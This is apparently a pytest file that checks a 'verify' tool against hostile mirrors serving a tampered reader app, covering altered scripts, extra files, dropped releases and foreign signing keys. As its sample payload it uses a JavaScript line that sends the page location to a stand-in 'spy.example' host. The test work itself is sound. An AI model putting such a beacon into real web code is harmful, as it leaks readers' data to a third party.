"""What `verify` says of the reader app that a copy carries: a false app is named, whoever serves it."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from tests.newsrooms import check, faults, make_app, make_newsroom, story, take
from tests.unit.test_verifying import tree

from skywave.archive.checkpoint import Checkpoint, parse_checkpoint
from skywave.archive.cosignature import cosign
from skywave.archive.encoding import sha256
from skywave.archive.merkle import Frontier, leaf_hash
from skywave.archive.note import SIGNATURE, VerifierKey, format_note, sign_note
from skywave.archive.release import AppKey, Release, ReleaseFile, parse_release
from skywave.archive.tiles import format_entries, parse_entries
from skywave.carriers.web.pages import PAGE_FORMAT
from skywave.io.keys import FileSigner
from skywave.newsroom.newsroom import Newsroom
from skywave.newsroom.publish import publish
from skywave.receiver.report import Report
from skywave.testing import FakeClock, HostileMirror, MemoryPlace

DAY = 86400
EVIL = b"fetch('https://spy.example/' + location);\n"


class SilentPlace(MemoryPlace):
    """A mirror that lists nothing, as a web server."""

    def paths(self) -> Iterator[str] | None:
        return None


@pytest.fixture
def newsroom(tmp_path: Path) -> Newsroom:
    """A newsroom whose app had two releases, a day apart."""
    clock = FakeClock()
    made = make_newsroom(tmp_path, clock=clock, app=make_app(tmp_path / "app"))
    take(made, story("one"))
    publish(made)
    make_app(made.app, reader_js=b"'use strict';let two;\n")
    clock.advance(DAY)
    publish(made)
    return made


def attack(newsroom: Newsroom, **changes: bytes | None) -> Report:
    """Return what is said of a mirror that changes files of `app/` (`_` for `.`) or adds them."""
    named: dict[str, bytes | None] = {f"app/{name.replace('_', '.')}": data for name, data in changes.items()}
    return check(newsroom, place=HostileMirror(tree(newsroom), named))


def app_signer(newsroom: Newsroom) -> tuple[VerifierKey, FileSigner]:
    signer = newsroom.signer("app")
    assert isinstance(signer, FileSigner)
    return VerifierKey.of("rfa.example/app", SIGNATURE, signer.public_key), signer


def signed_log(
    newsroom: Newsroom, releases: list[Release], key: VerifierKey, signer: FileSigner
) -> dict[str, bytes | None]:
    """Return the files of an app log over these releases, dated by the newsroom's pulse."""
    leaves = [release.format() for release in releases]
    hashes = [leaf_hash(leaf) for leaf in leaves]
    text = Checkpoint("rfa.example/app", len(leaves), Frontier().extend(hashes).root).text
    pulse = cosign(text, newsroom.pulse_key(), newsroom.signer("pulse").sign, time=newsroom.clock.now())
    return {
        "app/checkpoint": format_note(text, [sign_note(text, key, signer.sign), pulse]),
        f"app/tile/entries/000.p/{len(leaves)}": format_entries(leaves),
        f"app/tile/0/000.p/{len(leaves)}": b"".join(hashes),
    }


def releases_of(newsroom: Newsroom) -> list[Release]:
    raw = (newsroom.public / "app/tile/entries/000.p/2").read_bytes()
    return [parse_release(leaf) for leaf in parse_entries(raw, 2)]


def test_the_app_is_the_newest_release_whole_and_dated(newsroom: Newsroom) -> None:
    report = check(newsroom)
    assert faults(report) == []
    assert report.as_json()["app"] == {"release": 2, "as_of": newsroom.clock.now()}


def test_an_altered_page_script_is_named(newsroom: Newsroom) -> None:
    report = attack(newsroom, reader_js=EVIL)
    assert [(f.code, f.where) for f in report.findings if f.fault] == [("altered", "app/reader.js")]
    assert faults(report) == ["app/reader.js is not the file that release 2 of the reader app names: do not open it"]


def test_an_app_of_the_same_length_and_one_byte_longer_are_refused_alike(newsroom: Newsroom) -> None:
    good = (newsroom.public / "app" / "reader.js").read_bytes()
    for false in (good.replace(b"two", b"twO"), good + b"\n", b""):
        assert "do not open it" in faults(attack(newsroom, reader_js=false))[0]


def test_the_earlier_release_in_the_place_of_the_newest_is_named(newsroom: Newsroom) -> None:
    assert "release 2" in faults(attack(newsroom, reader_js=b"'use strict';\n"))[0]


def test_an_extra_file_beside_the_app_is_named(newsroom: Newsroom) -> None:
    report = attack(newsroom, evil_js=EVIL)
    assert [(f.code, f.where) for f in report.findings if f.fault] == [("unexplained", "app/evil.js")]


def test_a_worker_that_no_release_explains_is_named_where_the_copy_has_no_app_at_all(newsroom: Newsroom) -> None:
    files = {path: data for path, data in tree(newsroom).files.items() if not path.startswith("app/")}
    report = check(newsroom, place=MemoryPlace({**files, "sw.js": EVIL}))
    assert any("whose reader app this is" in message for message in faults(report))
    assert ("unexplained", "sw.js") in [(f.code, f.where) for f in report.findings]


def test_a_dropped_release_is_named(newsroom: Newsroom) -> None:
    first = releases_of(newsroom)[:1]
    entries = format_entries([release.format() for release in first])
    report = check(newsroom, place=HostileMirror(tree(newsroom), {"app/tile/entries/000.p/2": entries}))
    assert any("app/tile/entries/000.p/2" in message for message in faults(report))
    assert report.app_release is None
    gone = check(newsroom, place=HostileMirror(tree(newsroom), {"app/tile/entries/000.p/2": None}))
    assert any("releases of the reader app were dropped" in message for message in faults(gone))


def test_a_release_that_was_changed_in_the_log_is_named(newsroom: Newsroom) -> None:
    one, two = releases_of(newsroom)
    false = ReleaseFile("app/reader.js", sha256(EVIL), len(EVIL))
    changed = replace(two, files=tuple(false if file.path == false.path else file for file in two.files))
    entries = format_entries([one.format(), changed.format()])
    changes: dict[str, bytes | None] = {"app/tile/entries/000.p/2": entries, "app/reader.js": EVIL}
    report = check(newsroom, place=HostileMirror(tree(newsroom), changes))
    assert "the releases of the reader app in this copy are not those that app/checkpoint signs" in faults(report)


def test_an_app_signed_by_a_foreign_key_is_refused_with_its_note(newsroom: Newsroom) -> None:
    thief = FileSigner.generate(bytes([3] * 32))
    key = VerifierKey.of("rfa.example/app", SIGNATURE, thief.public_key)
    false = Release(1, "9", PAGE_FORMAT, 1_777_777_777, (ReleaseFile("app/reader.js", sha256(EVIL), len(EVIL)),))
    stated = AppKey("rfa.example", 1, key)
    changes = {
        **signed_log(newsroom, [false], key, thief),
        "app/key": format_note(stated.text, [sign_note(stated.text, key, thief.sign)]),
        "app/reader.js": EVIL,
    }
    report = check(newsroom, place=HostileMirror(tree(newsroom), changes))
    assert "app/key: the app's key is stated by 0 of the 2 root keys that it needs" in faults(report)
    assert report.app_release is None
    del changes["app/key"]
    under_ours = check(newsroom, place=HostileMirror(tree(newsroom), changes))
    assert any("signed by 0 of the 1 keys" in message for message in faults(under_ours))


def test_a_release_that_only_a_desks_key_signed_is_refused(newsroom: Newsroom) -> None:
    desk = newsroom.signer("desk-eng")
    assert isinstance(desk, FileSigner)
    changes = signed_log(newsroom, releases_of(newsroom), newsroom.desk_key("eng"), desk)
    report = check(newsroom, place=HostileMirror(tree(newsroom), changes))
    assert any("signed by 0 of the 1 keys" in message for message in faults(report))


def test_a_log_that_breaks_its_own_rules_is_named_although_it_is_rightly_signed(newsroom: Newsroom) -> None:
    one, two = releases_of(newsroom)
    changes = signed_log(newsroom, [one, replace(two, number=3)], *app_signer(newsroom))
    report = check(newsroom, place=HostileMirror(tree(newsroom), changes))
    assert any("release 3 of the reader app stands where release 2 should be" in message for message in faults(report))


def test_a_checkpoint_of_the_app_without_its_date_is_named(newsroom: Newsroom) -> None:
    note = parse_checkpoint((newsroom.public / "app/checkpoint").read_bytes()).note
    bare = format_note(note.text, [line for line in note.lines if not line.name.endswith("/pulse")])
    assert [f.code for f in attack(newsroom, checkpoint=bare).findings if f.fault] == ["undated"]


def test_last_weeks_app_with_its_own_log_is_genuine_and_says_its_age(tmp_path: Path) -> None:
    clock = FakeClock()
    newsroom = make_newsroom(tmp_path, clock=clock, app=make_app(tmp_path / "app"))
    take(newsroom, story("one"))
    publish(newsroom)
    old = tree(newsroom)
    make_app(newsroom.app, reader_js=b"'use strict';let two;\n")
    clock.advance(7 * DAY)
    publish(newsroom)
    report = check(newsroom, place=old)
    assert report.ok
    assert (report.app_release, report.app_as_of) == (1, clock.now() - 7 * DAY)


def test_a_missing_file_of_the_app_is_a_gap_and_a_copy_without_any_is_none(newsroom: Newsroom) -> None:
    assert faults(attack(newsroom, reader_css=None)) == [
        "app/reader.css is missing, and release 2 of the reader app names it"
    ]
    whole = tree(newsroom).files
    bare = {path: data for path, data in whole.items() if path != "sw.js" and not path.startswith("app/")}
    report = check(newsroom, place=MemoryPlace(bare))
    assert report.ok
    assert report.as_json()["app"] is None
    files = {f"app/{name}" for name in ("reader.js", "reader.css")} | {"sw.js"}
    log_only = check(newsroom, place=MemoryPlace({p: d for p, d in whole.items() if p not in files}))
    assert log_only.ok
    assert log_only.app_release == 2
    assert any(finding.code == "app-withheld" for finding in log_only.findings)


@pytest.mark.parametrize("path", ["app/key", "app/checkpoint", "app/tile/0/000.p/2", "app/tile/entries/000.p/2"])
def test_without_a_part_of_its_log_the_app_is_not_explained(newsroom: Newsroom, path: str) -> None:
    report = check(newsroom, place=HostileMirror(tree(newsroom), {path: None}))
    assert any(path in message for message in faults(report))


def test_smaller_sizes_of_the_log_may_stay_where_they_are_exact(newsroom: Newsroom) -> None:
    assert (newsroom.public / "app/tile/entries/000.p/1").exists()
    assert check(newsroom).ok
    for path in ("app/tile/entries/000.p/1", "app/tile/0/000.p/1"):
        report = check(newsroom, place=HostileMirror(tree(newsroom), {path: b"a lie"}))
        assert any(path in message for message in faults(report))


def test_a_place_that_lists_nothing_is_checked_as_far_as_its_log_leads(newsroom: Newsroom) -> None:
    files = tree(newsroom).files
    report = check(newsroom, place=SilentPlace(files))
    assert faults(report) == []
    assert report.app_release == 2
    assert faults(check(newsroom, place=SilentPlace({**files, "app/reader.js": EVIL})))
    bare = {path: data for path, data in files.items() if path != "sw.js" and not path.startswith("app/")}
    assert check(newsroom, place=SilentPlace(bare)).as_json()["app"] is None
    assert faults(check(newsroom, place=SilentPlace({**bare, "sw.js": EVIL})))


def test_an_app_for_another_page_format_is_told(newsroom: Newsroom) -> None:
    one, two = releases_of(newsroom)
    changes = signed_log(newsroom, [one, replace(two, page_format=PAGE_FORMAT + 1)], *app_signer(newsroom))
    report = check(newsroom, place=HostileMirror(tree(newsroom), changes))
    assert report.ok
    (told,) = [finding for finding in report.findings if finding.code == "page-format"]
    assert f"page format {PAGE_FORMAT + 1}" in told.message


def test_with_records_only_the_log_of_the_app_is_proven_and_not_its_files(newsroom: Newsroom) -> None:
    place = HostileMirror(tree(newsroom), {"app/reader.js": EVIL})
    assert check(newsroom, place=place, render=False).app_release == 2
    assert not faults(check(newsroom, place=place, render=False))
